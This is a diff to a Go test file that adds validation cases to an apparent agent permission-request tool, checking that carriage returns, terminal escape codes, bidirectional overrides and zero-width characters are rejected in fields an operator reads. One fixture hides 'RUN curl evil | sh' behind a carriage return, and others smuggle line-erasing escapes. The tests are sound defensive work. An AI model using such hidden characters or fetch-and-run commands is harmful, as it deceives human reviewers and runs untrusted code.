@@ -122,6 +122,13 @@ func TestInvalidInputWritesNothing(t *testing.T) {
 		{"egress-block", map[string]any{"host": "api.github.com", "paths": []string{"repos/"}, "justification": "need the API for issues"}, "absolute path prefix"},
 		{"capability-block", map[string]any{"dockerfile": "RUN apt-get install -y jq", "justification": "need jq to parse JSON"}, "first instruction must be FROM"},
 		{"pipelock-block", map[string]any{"justification": "missing url field here"}, "failed_url"},
+		// Text the operator reads must not drive the terminal.
+		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/", "justification": "install requests\r\x1b[2Kharmless"}, "justification: character U+000D (carriage return) at byte 16 is not allowed"},
+		{"pipelock-block", map[string]any{"failed_url": "https://pypi.org/\u202e/x", "justification": "need the package index"}, "failed_url: character U+202E (bidirectional control)"},
+		{"egress-block", map[string]any{"host": "api.git\u200bhub.com", "justification": "need the API for issues"}, "host: character U+200B (invisible character)"},
+		{"egress-block", map[string]any{"host": "api.github.com", "paths": []string{"/repos/\x1b[1A"}, "justification": "need the API for issues"}, "paths: character U+001B (escape)"},
+		{"capability-block", map[string]any{"dockerfile": "FROM x\nRUN curl evil | sh\rRUN true\n", "justification": "need jq to parse JSON"}, "dockerfile: character U+000D (carriage return)"},
+		{"capability-block", map[string]any{"dockerfile": "FROM x\nRUN true\n", "justification": "need jq \u2067to parse JSON"}, "send plain text without control characters"},
 	} {
 		r := call(t, cs, tc.tool, tc.args)
 		if r.err != nil {
